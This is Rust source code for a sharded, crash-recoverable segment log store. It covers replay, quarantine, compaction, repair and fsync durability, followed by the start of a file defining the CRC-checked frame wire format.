    /// the byte offset of each blob-ref/record pair's first frame, in
    /// frame order.
    records: Vec<(RecordMeta, Vec<u128>, usize)>,
    /// Offset just past the last complete blob-ref/record pair.
    valid_end: usize,
    /// First bad byte, its reason, and whether it is *corruption* (true)
    /// or torn framing a crash could produce (false).
    bad: Option<(usize, String, bool)>,
}

/// Walk every frame of `buf`, pairing blob-ref frames with the record
/// frames they precede.
fn replay_segment(buf: &[u8]) -> SegmentReplay {
    let mut out = SegmentReplay { records: Vec::new(), valid_end: 0, bad: None };
    let mut at = 0usize;
    let mut pending: Option<Vec<u128>> = None;
    let mut pending_at = 0usize;
    loop {
        match next_frame(buf, at) {
            FrameStep::Frame { kind: KIND_BLOB_REF, payload, next } => {
                if pending.is_some() {
                    out.bad = Some((
                        pending_at,
                        "blob-ref frame not followed by a record".to_string(),
                        true,
                    ));
                    return out;
                }
                match decode_blob_refs(payload) {
                    Some(refs) => {
                        pending = Some(refs);
                        pending_at = at;
                        at = next;
                    }
                    None => {
                        out.bad =
                            Some((at, "malformed blob-ref payload".to_string(), true));
                        return out;
                    }
                }
            }
            FrameStep::Frame { payload, next, .. } => {
                match scan_meta(payload, out.records.len()) {
                    Ok(meta) => {
                        let start = if pending.is_some() { pending_at } else { at };
                        out.records.push((meta, pending.take().unwrap_or_default(), start));
                        out.valid_end = next;
                        at = next;
                    }
                    Err(e) => {
                        out.bad = Some((at, format!("undecodable record: {e}"), true));
                        return out;
                    }
                }
            }
            FrameStep::End => {
                if pending.is_some() {
                    // A complete blob-ref with nothing after it: the crash
                    // hit between the pair. Torn, not corrupt.
                    out.bad = Some((
                        pending_at,
                        "trailing blob-ref frame with no record".to_string(),
                        false,
                    ));
                }
                return out;
            }
            FrameStep::Torn { at: bad, reason } => {
                // If a blob-ref was pending, the whole pair is torn from
                // the blob-ref's start.
                let (bad, reason) = match pending {
                    Some(_) => (pending_at, format!("torn record after blob-ref: {reason}")),
                    None => (bad, reason),
                };
                out.bad = Some((bad, reason, false));
                return out;
            }
        }
    }
}

/// Adjudicate one record payload during replay: a borrowed meta scan in
/// place of the full deserialization, yielding the `RecordMeta` the index
/// needs (with the segment-local `seq`) or the reason the payload is not
/// a record.
///
/// Debug builds re-decode the payload with serde and assert that both
/// adjudications agree — on accept/reject and on the derived meta — so
/// the scanner cannot drift from the record schema unnoticed.
fn scan_meta(payload: &[u8], seq: usize) -> Result<RecordMeta, String> {
    let meta = metascan::scan_record(payload).map_err(|e| e.to_string()).and_then(|s| {
        RecordMeta::of_scanned(seq, &s)
            .ok_or_else(|| format!("unknown class {:?}", s.class))
    });
    #[cfg(debug_assertions)]
    match (&meta, serde_json::from_slice::<ScanRecord>(payload)) {
        (Ok(got), Ok(record)) => {
            let want = RecordMeta::of(seq, &record);
            assert_eq!(
                *got, want,
                "meta scan and record decode derived different metas"
            );
        }
        (Ok(_), Err(e)) => {
            panic!("meta scan accepted a payload the record decode rejects: {e}")
        }
        (Err(e), Ok(_)) => panic!("meta scan rejected a decodable record: {e}"),
        (Err(_), Err(_)) => {}
    }
    meta
}

/// One shard: an independent generation-pointered segment log.
#[derive(Debug)]
pub struct Shard {
    id: usize,
    vfs: Arc<dyn Vfs>,
    dir: PathBuf,
    segment_target_bytes: u64,
    generation: u32,
    writer: Option<SegmentWriter>,
    next_segment: u32,
    index: StoreIndex,
    /// Per-record blob refs, parallel to the index (empty when none).
    blob_refs: Vec<Vec<u128>>,
    /// Per-record frame location as `(segment index, byte offset)`,
    /// parallel to the index — the lazy-paging map for
    /// [`fetch_payloads`](Shard::fetch_payloads). The offset points at the
    /// record's first frame (the blob-ref frame when one is present).
    locations: Vec<(u32, u64)>,
    health: ShardHealth,
    torn: Option<TornTail>,
    log_bytes: u64,
    /// A segment file was created since the last generation-dir fsync.
    pending_dir_sync: bool,
    /// Frame bytes were appended since the last durable barrier — when
    /// clear, [`Shard::sync`] is a no-op (a sync after a read-only window
    /// must cost zero fsyncs).
    dirty: bool,
    /// Records appended to this shard this session (ingest observability).
    session_appends: u64,
}

impl Shard {
    /// Open (creating or recovering) shard `id` under `root`.
    ///
    /// Never fails on corruption — that quarantines the shard instead.
    /// Errors are real I/O failures only.
    pub(crate) fn open(
        vfs: Arc<dyn Vfs>,
        root: &Path,
        id: usize,
        opts: &StoreOptions,
        blobs: &BlobStore,
        m: &StoreMetrics,
        tracer: &Tracer,
    ) -> io::Result<Shard> {
        let dir = root.join(shard_dir_name(id));
        vfs.create_dir_all(&dir)?;

        // Resolve the active generation; first open creates generation 0.
        let current_path = dir.join("CURRENT");
        let generation = if vfs.exists(&current_path) {
            let name = String::from_utf8_lossy(&vfs.read(&current_path)?).trim().to_string();
            match parse_generation_name(&name) {
                Some(g) => g,
                None => {
                    return Ok(Shard::quarantined(
                        vfs,
                        id,
                        dir,
                        opts,
                        current_path.clone(),
                        0,
                        format!("bad generation name {name:?} in CURRENT"),
                    ));
                }
            }
        } else {
            vfs.create_dir_all(&dir.join(generation_dir_name(0)))?;
            write_current(&vfs, &dir, 0)?;
            0
        };
        let seg_dir = dir.join(generation_dir_name(generation));
        if !vfs.is_dir(&seg_dir) {
            return Ok(Shard::quarantined(
                vfs,
                id,
                dir,
                opts,
                current_path,
                0,
                "CURRENT names a missing generation".to_string(),
            ));
        }
        // Orphan generations (an interrupted compaction's leftovers) are
        // dead weight: remove them. Stray CURRENT.tmp likewise.
        for name in vfs.read_dir_names(&dir)? {
            if let Some(g) = parse_generation_name(&name) {
                if g != generation {
                    vfs.remove_dir_all(&dir.join(name))?;
                }
            } else if name == "CURRENT.tmp" {
                vfs.remove_file(&dir.join(name))?;
            }
        }

        // Replay the log.
        let segments = list_segments(vfs.as_ref(), &seg_dir)?;
        let mut shard = Shard {
            id,
            vfs,
            dir,
            segment_target_bytes: opts.segment_target_bytes,
            generation,
            writer: None,
            next_segment: 0,
            index: StoreIndex::new(),
            blob_refs: Vec::new(),
            locations: Vec::new(),
            health: ShardHealth::Healthy,
            torn: None,
            log_bytes: 0,
            pending_dir_sync: false,
            dirty: false,
            session_appends: 0,
        };
        for (pos, (seg_index, path)) in segments.iter().enumerate() {
            let last = pos + 1 == segments.len();
            let buf = shard.vfs.read(path)?;
            let SegmentReplay { mut records, mut valid_end, mut bad } = replay_segment(&buf);
            // A durable frame referencing a blob the crash rolled back:
            // the record was never acknowledged (an ack fsyncs the blob
            // directory before the segment), so a trailing run of them in
            // the last segment is a torn tail. Anywhere else the missing
            // evidence is corruption.
            if let Some(i) = records
                .iter()
                .position(|(_, refs, _)| refs.iter().any(|h| !blobs.contains(*h)))
            {
                let (_, refs, start) = &records[i];
                let missing =
                    refs.iter().copied().find(|h| !blobs.contains(*h)).expect("just found");
                bad = Some((*start, format!("dangling blob ref {missing:032x}"), false));
                valid_end = *start;
                records.truncate(i);
            }
            let seg_records = records.len();
            for (meta, refs, start) in records {
                shard.index.push_recovered(meta);
                shard.blob_refs.push(refs);
                shard.locations.push((*seg_index, start as u64));
            }
            m.recover_segments.incr();
            m.recover_records.add(seg_records as u64);
            trace_recover(tracer, id, *seg_index, &buf, seg_records, bad.as_ref());
            match bad {
                None => shard.log_bytes += buf.len() as u64,
                Some((at, reason, is_corrupt)) if is_corrupt || !last => {
                    // Interior segments must be frame-perfect, and
                    // CRC-valid garbage anywhere is corruption rather than
                    // a crash artifact: quarantine.
                    shard.quarantine(path.clone(), at as u64, reason);
                    break;
                }
                Some((_, reason, _)) => {
                    // Torn tail of the last segment: truncate back to the
                    // last complete pair.
                    let keep = valid_end as u64;
                    shard.vfs.truncate(path, keep)?;
                    let dropped = buf.len() as u64 - keep;
                    m.recover_truncated_bytes.add(dropped);
                    shard.torn = Some(TornTail {
                        segment: path.clone(),
                        kept_bytes: keep,
                        dropped_bytes: dropped,
                        reason,
                    });
                    shard.log_bytes += keep;
                }
            }
        }

        if shard.health.is_healthy() {
            // Continue appending to the last segment unless it is already
            // at its target size.
            if let Some((seg_index, path)) = segments.last() {
                shard.next_segment = seg_index + 1;
                let size = shard.vfs.len(path)?;
                if size < shard.segment_target_bytes {
                    shard.writer = Some(SegmentWriter::open_append(
                        &shard.vfs, path, *seg_index, size,
                    )?);
                }
            }
        } else {
            // A quarantined shard serves nothing: its partial replay is
            // discarded so queries and known_hashes only see healthy data.
            shard.index = StoreIndex::new();
            shard.blob_refs.clear();
            shard.locations.clear();
            shard.log_bytes = 0;
        }
        Ok(shard)
    }

    /// Construct a shard quarantined before replay even started (bad
    /// CURRENT pointer).
    #[allow(clippy::too_many_arguments)]
    fn quarantined(
        vfs: Arc<dyn Vfs>,
        id: usize,
        dir: PathBuf,
        opts: &StoreOptions,
        segment: PathBuf,
        at: u64,
        reason: String,
    ) -> Shard {
        Shard {
            id,
            vfs,
            dir,
            segment_target_bytes: opts.segment_target_bytes,
            generation: 0,
            writer: None,
            next_segment: 0,
            index: StoreIndex::new(),
            blob_refs: Vec::new(),
            locations: Vec::new(),
            health: ShardHealth::Quarantined { segment, at, reason },
            torn: None,
            log_bytes: 0,
            pending_dir_sync: false,
            dirty: false,
            session_appends: 0,
        }
    }

    fn quarantine(&mut self, segment: PathBuf, at: u64, reason: String) {
        self.health = ShardHealth::Quarantined { segment, at, reason };
        self.writer = None;
    }

    /// This shard's id.
    pub fn id(&self) -> usize {
        self.id
    }

    /// This shard's health.
    pub fn health(&self) -> &ShardHealth {
        &self.health
    }

    /// The shard's in-memory index (empty while quarantined).
    pub fn index(&self) -> &StoreIndex {
        &self.index
    }

    /// Records served by this shard (0 while quarantined).
    pub fn len(&self) -> usize {
        self.index.len()
    }

    /// Whether the shard serves no records.
    pub fn is_empty(&self) -> bool {
        self.index.is_empty()
    }

    /// The torn tail recovery truncated on open, if any.
    pub fn torn(&self) -> Option<&TornTail> {
        self.torn.as_ref()
    }

    /// Log bytes on disk (valid frames only).
    pub fn log_bytes(&self) -> u64 {
        self.log_bytes
    }

    /// Segment files written or recovered so far.
    pub fn segments(&self) -> usize {
        self.next_segment as usize
    }

    /// Every blob address referenced by this shard's records.
    pub(crate) fn live_blob_refs(&self) -> impl Iterator<Item = u128> + '_ {
        self.blob_refs.iter().flatten().copied()
    }

    /// Blob refs of record `seq`.
    pub(crate) fn blob_refs_of(&self, seq: usize) -> &[u128] {
        self.blob_refs.get(seq).map(Vec::as_slice).unwrap_or(&[])
    }

    fn quarantine_error(&self) -> io::Error {
        let reason = match &self.health {
            ShardHealth::Quarantined { reason, .. } => reason.clone(),
            ShardHealth::Healthy => unreachable!("quarantine_error on healthy shard"),
        };
        io::Error::new(
            io::ErrorKind::InvalidData,
            format!(
                "shard {} is quarantined ({reason}); run `crawl-log store DIR repair`",
                self.id
            ),
        )
    }

    /// Append one already-encoded record payload with its blob refs.
    /// Returns the frame bytes written.
    pub(crate) fn append_payload(&mut self, payload: &[u8], refs: &[u128]) -> io::Result<u64> {
        if !self.health.is_healthy() {
            return Err(self.quarantine_error());
        }
        // The blob-ref frame (when present) and the record frame go down
        // in one write so the pair never spans a segment roll.
        let mut frame = Vec::new();
        if !refs.is_empty() {
            frame.extend_from_slice(&encode_frame(KIND_BLOB_REF, &encode_blob_refs(refs)));
        }
        frame.extend_from_slice(&encode_frame(KIND_RECORD, payload));
        self.append_frame(&frame)
    }

    /// Append one pre-built blob-ref/record frame pair (the encoded ingest
    /// path: the frame bytes were already built and CRC'd on a scan
    /// worker). Returns the frame bytes written.
    pub(crate) fn append_frame(&mut self, frame: &[u8]) -> io::Result<u64> {
        if !self.health.is_healthy() {
            return Err(self.quarantine_error());
        }
        if self.writer.is_none() {
            let seg_dir = self.dir.join(generation_dir_name(self.generation));
            self.writer = Some(SegmentWriter::create(&self.vfs, &seg_dir, self.next_segment)?);
            self.next_segment += 1;
            self.pending_dir_sync = true;
        }
        let writer = self.writer.as_mut().expect("writer just ensured");
        let location = (writer.index(), writer.bytes());
        let wrote = writer.append(frame)?;
        self.log_bytes += wrote;
        self.locations.push(location);
        self.dirty = true;
        self.session_appends += 1;
        Ok(wrote)
    }

    /// The quarantine refusal for this shard, if it is fenced off; `None`
    /// while healthy. Batch appends pre-check every target shard with this
    /// so a refused batch has no side effects.
    pub(crate) fn quarantine_refusal(&self) -> Option<io::Error> {
        if self.health.is_healthy() {
            None
        } else {
            Some(self.quarantine_error())
        }
    }

    /// Bytes in the active segment (0 when no writer is open) — the
    /// batch append path's roll predictor.
    pub(crate) fn active_segment_bytes(&self) -> u64 {
        self.writer.as_ref().map(SegmentWriter::bytes).unwrap_or(0)
    }

    /// Whether the active segment has reached its target size and should
    /// be sealed. The seal itself is driven by the store, which fsyncs
    /// the blob directory *first* — a segment must never become durable
    /// ahead of the blobs its frames reference.
    pub(crate) fn segment_full(&self) -> bool {
        self.writer
            .as_ref()
            .map(|w| w.bytes() >= self.segment_target_bytes)
            .unwrap_or(false)
    }

    /// Durably seal the active segment: fsync it, make its directory entry
    /// durable, and retire the writer (the next append rolls to a fresh
    /// segment).
    pub(crate) fn seal_active_segment(&mut self) -> io::Result<()> {
        if let Some(mut w) = self.writer.take() {
            w.sync()?;
        }
        if self.pending_dir_sync {
            self.vfs.sync_dir(&self.dir.join(generation_dir_name(self.generation)))?;
            self.pending_dir_sync = false;
        }
        // Only the active segment can hold unsynced appends, and it was
        // just fsynced.
        self.dirty = false;
        Ok(())
    }

    /// Record `record` in the in-memory index (after a successful append).
    pub(crate) fn index_record(&mut self, record: &ScanRecord, refs: Vec<u128>) -> usize {
        let seq = self.index.insert(record);
        self.blob_refs.push(refs);
        seq
    }

    /// Record a worker-derived meta in the in-memory index (the encoded
    /// ingest path's counterpart of [`index_record`](Self::index_record) —
    /// the shard-local `seq` is assigned here).
    pub(crate) fn index_encoded(&mut self, meta: RecordMeta, refs: Vec<u128>) -> usize {
        let seq = self.index.push_recovered(meta);
        self.blob_refs.push(refs);
        seq
    }

    /// Flush buffered log writes to the OS (no fsync).
    pub(crate) fn flush(&mut self) -> io::Result<()> {
        if let Some(w) = self.writer.as_mut() {
            w.flush()?;
        }
        Ok(())
    }

    /// Durable-write barrier: fsync the active segment if it has unsynced
    /// appends, then fsync the generation directory if any segment file was
    /// created since the last barrier. A clean shard (nothing appended
    /// since its last barrier) issues **zero** fsyncs — a sync after a
    /// read-only window must cost nothing. Returns whether an fsync was
    /// actually issued.
    pub(crate) fn sync(&mut self) -> io::Result<bool> {
        if !self.dirty && !self.pending_dir_sync {
            return Ok(false);
        }
        let mut synced = false;
        if self.dirty {
            if let Some(w) = self.writer.as_mut() {
                w.sync()?;
                synced = true;
            }
            self.dirty = false;
        }
        if self.pending_dir_sync {
            self.vfs.sync_dir(&self.dir.join(generation_dir_name(self.generation)))?;
            self.pending_dir_sync = false;
            synced = true;
        }
        Ok(synced)
    }

    /// Records appended to this shard this session (ingest observability
    /// for `crawl-log store stats`).
    pub fn session_appends(&self) -> u64 {
        self.session_appends
    }

    /// Fetch the canonical payloads of the records at `seqs`, in input
    /// order, paging in each needed segment lazily (and only once) instead
    /// of replaying the whole log. The query fan-out path.
    pub(crate) fn fetch_payloads(&mut self, seqs: &[usize]) -> io::Result<Vec<Vec<u8>>> {
        if !self.health.is_healthy() {
            return Err(self.quarantine_error());
        }
        self.flush()?;
        let seg_dir = self.dir.join(generation_dir_name(self.generation));
        // Group the requested records by segment so each segment file is
        // read at most once, remembering each request's output position.
        let mut by_segment: BTreeMap<u32, Vec<(usize, u64)>> = BTreeMap::new();
        for (pos, &seq) in seqs.iter().enumerate() {
            let (seg, offset) = *self.locations.get(seq).ok_or_else(|| {
                io::Error::new(
                    io::ErrorKind::InvalidInput,
                    format!("shard {}: record seq {seq} out of range", self.id),
                )
            })?;
            by_segment.entry(seg).or_default().push((pos, offset));
        }
        let mut out = vec![Vec::new(); seqs.len()];
        for (seg, wants) in by_segment {
            let path = seg_dir.join(segment_file_name(seg));
            let buf = self.vfs.read(&path)?;
            for (pos, offset) in wants {
                // The location points at the record's first frame (the
                // blob-ref frame when one is present); walk past it to the
                // record frame.
                let mut at = offset as usize;
                loop {
                    match next_frame(&buf, at) {
                        FrameStep::Frame { kind: KIND_BLOB_REF, next, .. } => at = next,
                        FrameStep::Frame { kind: KIND_RECORD, payload, .. } => {
                            out[pos] = payload.to_vec();
                            break;
                        }
                        FrameStep::Frame { kind, .. } => {
                            return Err(corrupt(
                                &path,
                                format!("unexpected frame kind {kind} at {at}"),
                            ));
                        }
                        FrameStep::End | FrameStep::Torn { .. } => {
                            return Err(corrupt(
                                &path,
                                format!("no record frame at offset {at}"),
                            ));
                        }
                    }
                }
            }
        }
        Ok(out)
    }

    /// Raw canonical record payloads in log order (blob-ref frames are
    /// skipped).
    pub(crate) fn read_payloads(&mut self) -> io::Result<Vec<Vec<u8>>> {
        if !self.health.is_healthy() {
            return Err(self.quarantine_error());
        }
        self.flush()?;
        let seg_dir = self.dir.join(generation_dir_name(self.generation));
        let mut out = Vec::with_capacity(self.index.len());
        for (_, path) in list_segments(self.vfs.as_ref(), &seg_dir)? {
            let buf = self.vfs.read(&path)?;
            let mut at = 0usize;
            loop {
                match next_frame(&buf, at) {
                    FrameStep::Frame { kind, payload, next } => {
                        if kind == KIND_RECORD {
                            out.push(payload.to_vec());
                        }
                        at = next;
                    }
                    FrameStep::End => break,
                    FrameStep::Torn { at, reason } => {
                        return Err(corrupt(&path, format!("bad frame at {at}: {reason}")));
                    }
                }
            }
        }
        Ok(out)
    }

    /// Walk this shard's frames into `faults`/counters for
    /// [`Store::verify`](crate::Store::verify). `blobs` is consulted for
    /// dangling blob refs.
    pub(crate) fn verify_into(
        &mut self,
        blobs: &BlobStore,
        records: &mut usize,
        segments: &mut usize,
        faults: &mut Vec<(PathBuf, String)>,
    ) -> io::Result<()> {
        if let ShardHealth::Quarantined { segment, at, reason } = &self.health {
            faults.push((
                segment.clone(),
                format!("shard {} quarantined: bad frame at {at}: {reason}", self.id),
            ));
            return Ok(());
        }
        self.flush()?;
        let seg_dir = self.dir.join(generation_dir_name(self.generation));
        for (_, path) in list_segments(self.vfs.as_ref(), &seg_dir)? {
            *segments += 1;
            let buf = match self.vfs.read(&path) {
                Ok(b) => b,
                Err(e) => {
                    faults.push((path, format!("unreadable: {e}")));
                    continue;
                }
            };
            let replay = replay_segment(&buf);
            *records += replay.records.len();
            if let Some((at, reason, _)) = replay.bad {
                faults.push((path.clone(), format!("bad frame at {at}: {reason}")));
            }
            for (_, refs, _) in &replay.records {
                for &h in refs {
                    if !blobs.contains(h) {
                        faults.push((
                            path.clone(),
                            format!("dangling blob ref {h:032x} (blob missing)"),
                        ));
                    }
                }
            }
        }
        Ok(())
    }

    /// Write `survivors` (payload, refs) into a fresh generation and
    /// atomically, durably swap `CURRENT` to it. The old generation is
    /// removed. Used by both compaction and repair.
    fn rewrite_generation(&mut self, survivors: &[(Vec<u8>, Vec<u128>)]) -> io::Result<()> {
        let new_generation = self.generation + 1;
        let new_dir = self.dir.join(generation_dir_name(new_generation));
        self.vfs.create_dir_all(&new_dir)?;
        let mut seg_index = 0u32;
        let mut writer: Option<SegmentWriter> = None;
        let mut locations = Vec::with_capacity(survivors.len());
        for (payload, refs) in survivors {
            let mut frame = Vec::new();
            if !refs.is_empty() {
                frame.extend_from_slice(&encode_frame(KIND_BLOB_REF, &encode_blob_refs(refs)));
            }
            frame.extend_from_slice(&encode_frame(KIND_RECORD, payload));
            if writer.is_none() {
                writer = Some(SegmentWriter::create(&self.vfs, &new_dir, seg_index)?);
                seg_index += 1;
            }
            let w = writer.as_mut().expect("writer just ensured");
            locations.push((w.index(), w.bytes()));
            w.append(&frame)?;
            if w.bytes() >= self.segment_target_bytes {
                w.sync()?;
                writer = None;
            }
        }
        if let Some(mut w) = writer {
            w.sync()?;
        }
        // Every new segment is fsynced; make their directory entries
        // durable before the pointer advances, then swap CURRENT durably.
        self.vfs.sync_dir(&new_dir)?;
        write_current(&self.vfs, &self.dir, new_generation)?;
        let old_dir = self.dir.join(generation_dir_name(self.generation));
        let _ = self.vfs.remove_dir_all(&old_dir);

        // Swap in-memory state.
        let mut index = StoreIndex::new();
        let mut blob_refs = Vec::with_capacity(survivors.len());
        let mut log_bytes = 0u64;
        for (payload, refs) in survivors {
            let record: ScanRecord = serde_json::from_slice(payload)
                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
            index.insert(&record);
            log_bytes += (payload.len() + crate::frame::FRAME_HEADER_LEN) as u64;
            if !refs.is_empty() {
                log_bytes += (refs.len() * 16 + crate::frame::FRAME_HEADER_LEN) as u64;
            }
            blob_refs.push(refs.clone());
        }
        self.generation = new_generation;
        self.index = index;
        self.blob_refs = blob_refs;
        self.locations = locations;
        self.log_bytes = log_bytes;
        self.writer = None;
        self.next_segment = seg_index;
        self.pending_dir_sync = false;
        // Every rewritten segment was fsynced above.
        self.dirty = false;
        // A partially filled final segment stays open for future appends.
        let segs = list_segments(self.vfs.as_ref(), &new_dir)?;
        if let Some((idx, path)) = segs.last() {
            let size = self.vfs.len(path)?;
            if size < self.segment_target_bytes {
                self.writer = Some(SegmentWriter::open_append(&self.vfs, path, *idx, size)?);
            }
        }
        Ok(())
    }

    /// Compact: keep the newest record per content hash, rewrite into a
    /// fresh generation, swap durably. Returns (kept, dropped,
    /// segments_before, segments_after).
    pub(crate) fn compact(&mut self) -> io::Result<(usize, usize, usize, usize)> {
        if !self.health.is_healthy() {
            return Err(self.quarantine_error());
        }
        let payloads = self.read_payloads()?;
        let segments_before = {
            let seg_dir = self.dir.join(generation_dir_name(self.generation));
            list_segments(self.vfs.as_ref(), &seg_dir)?.len()
        };
        let mut latest = std::collections::HashMap::new();
        for (seq, meta) in self.index.metas().iter().enumerate() {
            latest.insert(meta.content_hash, seq);
        }
        let survivors: Vec<(Vec<u8>, Vec<u128>)> = (0..payloads.len())
            .filter(|&seq| latest.get(&self.index.metas()[seq].content_hash) == Some(&seq))
            .map(|seq| (payloads[seq].clone(), self.blob_refs_of(seq).to_vec()))
            .collect();
        let kept = survivors.len();
        let dropped = payloads.len() - kept;
        self.rewrite_generation(&survivors)?;
        let segments_after = {
            let seg_dir = self.dir.join(generation_dir_name(self.generation));
            list_segments(self.vfs.as_ref(), &seg_dir)?.len()
        };
        Ok((kept, dropped, segments_before, segments_after))
    }

    /// Re-adjudicate this shard from its last valid frames: salvage every
    /// complete blob-ref/record pair up to the first bad byte of each
    /// segment (stopping at records whose blob refs no longer resolve —
    /// salvaging a record without its evidence would poison verify),
    /// rewrite them into a fresh generation, and return the shard to
    /// service.
    pub(crate) fn repair(&mut self, blobs: &BlobStore, m: &StoreMetrics) -> io::Result<RepairReport> {
        let was_quarantined = !self.health.is_healthy();
        self.writer = None;

        // Re-resolve the generation from disk: quarantine may predate any
        // in-memory state (e.g. a bad CURRENT pointer).
        let current_path = self.dir.join("CURRENT");
        let generation = if self.vfs.exists(&current_path) {
            let name =
                String::from_utf8_lossy(&self.vfs.read(&current_path)?).trim().to_string();
            parse_generation_name(&name)
        } else {
            None
        };
        let generation = match generation {
            Some(g) if self.vfs.is_dir(&self.dir.join(generation_dir_name(g))) => g,
            // Unrecoverable pointer: restart the shard from an empty
            // generation 0 (all its records are lost to the corruption;
            // a delta re-scan refills them).
            _ => {
                self.vfs.create_dir_all(&self.dir.join(generation_dir_name(0)))?;
                write_current(&self.vfs, &self.dir, 0)?;
                0
            }
        };
        self.generation = generation;

        // Salvage pass: valid prefix of every segment.
        let seg_dir = self.dir.join(generation_dir_name(generation));
        let mut survivors: Vec<(Vec<u8>, Vec<u128>)> = Vec::new();
        for (_, path) in list_segments(self.vfs.as_ref(), &seg_dir)? {
            let buf = self.vfs.read(&path)?;
            let mut at = 0usize;
            let mut pending: Vec<u128> = Vec::new();
            loop {
                match next_frame(&buf, at) {
                    FrameStep::Frame { kind: KIND_BLOB_REF, payload, next } => {
                        match decode_blob_refs(payload) {
                            Some(refs) => pending = refs,
                            None => break,
                        }
                        at = next;
                    }
                    FrameStep::Frame { payload, next, .. } => {
                        if serde_json::from_slice::<ScanRecord>(payload).is_err()
                            || pending.iter().any(|h| !blobs.contains(*h))
                        {
                            break;
                        }
                        survivors.push((payload.to_vec(), std::mem::take(&mut pending)));
                        at = next;
                    }
                    FrameStep::End | FrameStep::Torn { .. } => break,
                }
            }
        }
        let salvaged = survivors.len();
        self.rewrite_generation(&survivors)?;
        if was_quarantined {
            m.shards_quarantined.sub(1);
        }
        self.health = ShardHealth::Healthy;
        self.torn = None;
        m.repair_calls.incr();
        m.repair_records.add(salvaged as u64);
        Ok(RepairReport { shard: self.id, salvaged, was_quarantined })
    }

    /// Every content hash this shard serves.
    pub(crate) fn known_hashes_into(&self, out: &mut HashSet<u128>) {
        for meta in self.index.metas() {
            out.insert(meta.content_hash);
        }
    }
}

/// Durably point `CURRENT` at generation `n`: write temp, fsync it, rename
/// over `CURRENT`, fsync the shard directory (rename alone is not durable).
pub(crate) fn write_current(vfs: &Arc<dyn Vfs>, dir: &Path, n: u32) -> io::Result<()> {
    let tmp = dir.join("CURRENT.tmp");
    vfs.write(&tmp, generation_dir_name(n).as_bytes())?;
    vfs.fsync(&tmp)?;
    vfs.rename(&tmp, &dir.join("CURRENT"))?;
    vfs.sync_dir(dir)
}

/// Emit the per-segment recovery span on `tracer` (no-op when disabled).
fn trace_recover(
    tracer: &Tracer,
    shard: usize,
    seg_index: u32,
    buf: &[u8],
    records: usize,
    bad: Option<&(usize, String, bool)>,
) {
    if let Some(_guard) = tracer.message(seg_index as usize) {
        with_active(|t| {
            t.begin(
                "store.recover",
                vec![
                    ("shard", shard.to_string()),
                    ("segment", seg_index.to_string()),
                    ("bytes", buf.len().to_string()),
                ],
            );
            t.instant(
                "store.recover.result",
                vec![
                    ("records", records.to_string()),
                    ("bad", bad.is_some().to_string()),
                ],
            );
            t.end();
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shard_routing_is_a_monotone_prefix_partition() {
        for shards in [1usize, 2, 4, 8, 16] {
            let mut last = 0usize;
            for top in 0u128..256 {
                let s = shard_of(top << 120, shards);
                assert!(s < shards);
                assert!(s >= last, "monotone in the hash prefix");
                last = s;
            }
            assert_eq!(shard_of(0, shards), 0);
            assert_eq!(shard_of(u128::MAX, shards), shards - 1);
        }
        // Doubling the shard count splits each shard in two — membership
        // under shards=2 predicts membership under shards=4.
        for top in 0u128..256 {
            let h = top << 120;
            assert_eq!(shard_of(h, 4) / 2, shard_of(h, 2));
        }
    }

    #[test]
    fn replay_pairs_blob_refs_with_records() {
        let refs = vec![7u128, 9u128];
        let record = serde_json::to_vec(&serde_json::json!({})).unwrap();
        // A raw serde_json Value won't decode as ScanRecord; build the walk
        // on framing level only by checking bad classification.
        let mut buf = encode_frame(KIND_BLOB_REF, &encode_blob_refs(&refs));
        buf.extend_from_slice(&encode_frame(KIND_RECORD, &record));
        let replay = replay_segment(&buf);
        // "{}" is not a valid ScanRecord: corruption, flagged at the
        // record frame.
        let (at, _, is_corrupt) = replay.bad.expect("undecodable record flagged");
        assert!(is_corrupt);
        assert_eq!(at, encode_frame(KIND_BLOB_REF, &encode_blob_refs(&refs)).len());
    }

    #[test]
    fn trailing_blob_ref_is_torn_not_corrupt() {
        let buf = encode_frame(KIND_BLOB_REF, &encode_blob_refs(&[1u128]));
        let replay = replay_segment(&buf);
        let (at, reason, is_corrupt) = replay.bad.expect("trailing blob-ref flagged");
        assert_eq!(at, 0);
        assert!(!is_corrupt, "crash between pair is torn: {reason}");
        assert_eq!(replay.valid_end, 0);
    }

    #[test]
    fn generation_names_round_trip() {
        assert_eq!(generation_dir_name(0), "segments-00000");
        assert_eq!(parse_generation_name("segments-00007"), Some(7));
        assert_eq!(parse_generation_name("segments-7"), None);
        assert_eq!(parse_generation_name("blobs"), None);
        assert_eq!(shard_dir_name(3), "shard-03");
    }
}
