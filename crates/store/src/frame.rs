//! The wire format of the segment log: length-prefixed, CRC-checked binary
//! frames.
//!
//! ```text
//! frame := kind:u8  len:u32le  crc32:u32le  payload:[u8; len]
//! ```
//!
//! `crc32` covers the payload only; `kind` and `len` are implicitly checked
//! by the decode rules (unknown kind or impossible length reads as a torn
//! tail). A segment file is a plain concatenation of frames, so the set of
//! valid segment files is prefix-closed: any crash mid-write leaves a valid
//! prefix followed by a tail the reader can detect and truncate.

use crate::crc::crc32;

/// Bytes of header before the payload (`kind` + `len` + `crc32`).
pub const FRAME_HEADER_LEN: usize = 9;

/// Frame kind: a canonically encoded [`ScanRecord`](crawlerbox::ScanRecord).
pub const KIND_RECORD: u8 = 1;

/// Frame kind: the blob addresses referenced by the *next* record frame —
/// a concatenation of little-endian `u128` fnv128 hashes. Written before
/// its record so a crash between the two leaves at worst an orphan blob
/// plus an unreferenced blob-ref frame, never a record whose evidence is
/// missing. Replaying these frames is what makes orphan-blob GC possible:
/// artifact hashes are deliberately absent from the canonical record
/// payload.
pub const KIND_BLOB_REF: u8 = 2;

/// Decode a [`KIND_BLOB_REF`] payload into its blob addresses. `None` when
/// the payload length is not a multiple of 16.
pub fn decode_blob_refs(payload: &[u8]) -> Option<Vec<u128>> {
    if payload.len() % 16 != 0 {
        return None;
    }
    Some(
        payload
            .chunks_exact(16)
            .map(|c| u128::from_le_bytes(c.try_into().expect("16 bytes")))
            .collect(),
    )
}

/// Encode blob addresses as a [`KIND_BLOB_REF`] payload.
pub fn encode_blob_refs(hashes: &[u128]) -> Vec<u8> {
    let mut out = Vec::with_capacity(hashes.len() * 16);
    for h in hashes {
        out.extend_from_slice(&h.to_le_bytes());
    }
    out
}

/// Upper bound on a single payload — anything larger reads as corruption
/// rather than a 4 GiB allocation.
pub const MAX_PAYLOAD_LEN: u32 = 64 * 1024 * 1024;

/// Encode one frame.
